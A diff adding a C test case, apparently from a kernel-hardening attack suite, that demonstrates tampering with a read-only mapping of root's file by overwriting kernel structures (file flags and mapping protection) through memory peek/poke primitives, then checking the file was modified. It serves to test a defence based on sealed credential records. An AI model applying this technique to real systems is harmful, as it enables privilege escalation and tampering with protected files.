@@ -1,0 +1,61 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * What: The program maps root's file for reading and adds the right to write in the kernel's
+ * description of the mapping.
+ * Stops it: Who may do what is read from sealed records, and each record says whose it is. A page
+ * becomes writable only when the record of the file that was opened says so.
+ * Without: Root's file is changed by a store of the program.
+ */
+#include "attack.h"
+
+ATTACK("cred_integrity", "area_made_writable", "cred_integrity: a mapping writes what was not opened for writing",
+       "The program maps root's file for reading and adds the right to write in the "
+       "kernel's description of the mapping.",
+       "Who may do what is read from sealed records, and each record says whose it is. "
+       "A page becomes writable only when the record of the file that was opened says "
+       "so.",
+       "Root's file is changed by a store of the program.");
+
+static bool control(void)
+{
+	return is_ordinary();
+}
+
+static bool is_changed(long file)
+{
+	char first = 0;
+
+	call4(__NR_pread64, file, (long)&first, 1, 0);
+	return first == 'X';
+}
+
+/* The area that contains ADDRESS: the last one that a fault has found. */
+static uint64_t own_area(uint64_t task, volatile char *address, unsigned long touch)
+{
+	const uint64_t space = peek(task + member("task.space"));
+	uint64_t area;
+
+	(void)address[touch];
+	area = peek(space + member("address_space.cached_area"));
+	return peek(area + member("area.start")) == (uint64_t)address ? area : 0;
+}
+
+static bool fire(void)
+{
+	const long file = call3(__NR_open, (long)PUBLIC, O_RDONLY, 0);
+	volatile char *page = (volatile char *)call6(__NR_mmap, 0, 4096, PROT_READ, MAP_SHARED, file, 0);
+	const uint64_t task = own_task(), area = own_area(task, page, 0);
+
+	if (area == 0)
+		return false;
+	poke32(file_struct(task, (int)file) + member("file.flags"), O_RDWR);
+	poke32(area + member("area.max_protection"), PROT_READ | PROT_WRITE);
+	poke32(area + member("area.protection"), PROT_READ | PROT_WRITE);
+	page[0] = 'X';
+	return is_changed(file);
+}
+
+static void victim(void)
+{
+	victim_waits();
+}
